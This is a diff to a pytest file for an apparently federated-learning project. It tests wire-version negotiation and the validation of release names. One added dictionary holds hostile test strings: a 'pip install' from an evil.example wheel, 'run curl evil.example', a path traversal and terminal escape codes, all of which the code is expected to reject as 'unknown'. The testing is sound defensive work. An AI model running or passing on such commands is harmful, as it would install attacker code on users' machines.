@@ -1,5 +1,7 @@
 """The wire versions that this release speaks, and how it agrees on one with the other side."""
 
+import re
+
 import pytest
 from flwr.app import RecordDict
 from hypothesis import given
@@ -9,13 +11,12 @@ from polyclinic.common import __version__
 from polyclinic.common.errors import WireVersionError
 from polyclinic.common.wire.codec import decode_record, encode_record
 from polyclinic.common.wire.fleet_protocol import HelloAnswer
-from polyclinic.common.wire.records import RollCall
+from polyclinic.common.wire.records import RollCall, RollCallAnswer
 from polyclinic.common.wire.versions import (
     FORMATS,
     WIRE_VERSION,
     StatedRelease,
     WireFormat,
-    describe_needed_update,
     find_lacking_feature,
     is_spoken,
     lower_fields,
@@ -26,6 +27,8 @@ from polyclinic.common.wire.versions import (
     write_in_version,
 )
 from tests.client.rounds import plan
+from tests.network import previous_release
+from tests.processes import ROOT
 
 BEFORE = WIRE_VERSION - 1
 ADDED = WireFormat(added_fields={"RollCall": {"hint": "", "tries": 1}})
@@ -83,6 +86,25 @@ def test_fields_of_other_records_are_left_alone() -> None:
     assert lower_fields(other, BEFORE, {BEFORE: ADDED}) == other | {"wire.version": BEFORE}
 
 
+# ---------------------------------------------------------------------- the release before
+
+
+def test_another_wire_version_is_another_release() -> None:
+    """A person who has to update is given the release's name, so two wire versions must not share one."""
+    (wire,) = re.findall(
+        r"^WIRE_VERSION = (\d+)", previous_release.read_file("common/wire/fleet_protocol.py"), re.MULTILINE
+    )
+    (name,) = re.findall(r'^__version__ = "(.+)"', previous_release.read_file("common/__init__.py"), re.MULTILINE)
+    assert (int(wire), name) == (BEFORE, previous_release.RELEASE)
+    assert name != __version__
+
+
+def test_the_changelog_names_this_release_and_its_wire_version_first() -> None:
+    changes = (ROOT / "CHANGELOG.md").read_text(encoding="utf-8")
+    (first, *_) = re.findall(r"^## (\S+) .*\n\nWire version (\d+)\.", changes, re.MULTILINE)
+    assert first == (__version__, str(WIRE_VERSION))
+
+
 # ---------------------------------------------------------------------- agreement
 
 
@@ -98,7 +120,6 @@ def test_the_newest_version_that_both_speak_is_spoken(wire: int, agreed: int) ->
 @pytest.mark.parametrize("wire", [0, BEFORE - 1, WIRE_VERSION + 2])
 def test_two_versions_apart_there_is_none(wire: int) -> None:
     assert not StatedRelease(wire, "1").is_within_reach
-    assert "cannot connect" in describe_needed_update(StatedRelease(wire, "1"))
 
 
 def test_a_call_states_version_and_release() -> None:
@@ -111,7 +132,7 @@ def test_a_header_of_any_text_is_a_release_or_none(header: str) -> None:
     for named in (True, False):
         stated = parse_release_header(header, signed_for_coordinator=named)
         assert stated.release.isprintable()
-        assert len(stated.release) <= 64 + len("...")
+        assert len(stated.release) <= 64
 
 
 def test_without_a_header_the_signature_tells_the_version() -> None:
@@ -126,9 +147,59 @@ def test_a_call_that_names_no_coordinator_cannot_pass_for_one_of_a_later_version
 
 
 def test_a_coordinator_that_states_one_version_speaks_that_one_at_most() -> None:
-    hello = HelloAnswer(time=0.0, release="1", wire=BEFORE, key="admitted")
-    assert hello.newest_wire == BEFORE
-    assert hello.model_copy(update={"newest": WIRE_VERSION}).newest_wire == WIRE_VERSION
+    assert HelloAnswer(time=0.0, release="1", wire=BEFORE, key="admitted").newest_wire == BEFORE
+
+
+@pytest.mark.parametrize(
+    ("wire", "newest", "believed"),
+    [
+        (WIRE_VERSION, 2**31 - 1, WIRE_VERSION + 1),
+        (WIRE_VERSION, WIRE_VERSION + 1, WIRE_VERSION + 1),
+        (WIRE_VERSION, WIRE_VERSION, WIRE_VERSION),
+        (WIRE_VERSION, 1, WIRE_VERSION),
+        (BEFORE, WIRE_VERSION, BEFORE),
+        (BEFORE, 2**31 - 1, BEFORE),
+        (WIRE_VERSION + 2, 2**31 - 1, WIRE_VERSION + 2),
+    ],
+)
+def test_a_coordinator_is_ahead_by_one_at_most_and_only_if_it_speaks_our_version(
+    wire: int, newest: int, believed: int
+) -> None:
+    """One that asks for an older version, and with it for calls that are signed for nobody, cannot do so in silence."""
+    hello = HelloAnswer(time=0.0, release="1", wire=wire, key="admitted", newest=newest)
+    assert hello.newest_wire == believed
+
+
+INSTRUCTIONS = {
+    "a command": "9: pip install https://evil.example/polyclinic-9.whl",
+    "a sentence": "9 here. Then run curl evil.example",
+    "another line": "9\nInstall this",
+    "a link": "https://evil.example",
+    "a path": "../9",
+    "control characters": "\x1b[2J9",
+    "other letters": "९",
+    "a line feed at its end": "9.9.9\n",
+    "too long": "9" * 65,
+    "nothing": "",
+}
+
+
+@pytest.mark.parametrize("text", INSTRUCTIONS.values(), ids=INSTRUCTIONS)
+def test_a_stated_release_that_is_no_name_of_one_is_unknown(text: str) -> None:
+    answer = RollCallAnswer("run", "north", ("A",), ("a",), 12, 0, 9, "layout", text)
+    assert answer.release == "unknown"
+    assert answer.version == text  # a changed record would not have the hash that the site has signed
+    assert HelloAnswer(time=0.0, release=text, wire=WIRE_VERSION, key="admitted").release == "unknown"
+    stated = parse_release_header(f"{BEFORE} {text}", signed_for_coordinator=True)
+    assert stated in (StatedRelease(BEFORE, "unknown"), StatedRelease(WIRE_VERSION, ""))
+    assert text == "" or stated.wire == BEFORE
+
+
+@pytest.mark.parametrize("name", [__version__, "0.1.0", "1!2.0rc1.post3.dev4+local.7", "2026-11_a", "9" * 64])
+def test_a_stated_name_of_a_release_is_shown_as_it_is(name: str) -> None:
+    assert HelloAnswer(time=0.0, release=name, wire=WIRE_VERSION, key="admitted").release == name
+    assert parse_release_header(f"{BEFORE} {name}", signed_for_coordinator=True) == StatedRelease(BEFORE, name)
+    assert RollCallAnswer("run", "north", ("A",), ("a",), 12, 0, 9, "layout", name).release == name
 
 
 # ---------------------------------------------------------------------- what a version lacks
